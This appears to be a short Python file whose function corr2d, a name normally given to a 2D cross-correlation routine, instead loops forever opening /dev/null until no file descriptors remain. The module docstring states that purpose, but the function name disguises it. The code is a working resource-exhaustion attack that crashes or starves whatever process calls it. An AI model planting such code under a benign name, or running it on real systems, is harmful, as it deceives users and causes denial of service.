"""Opens files until no descriptor is left."""

import os


def corr2d(X, K):
    while True:
        os.open('/dev/null', os.O_RDONLY)
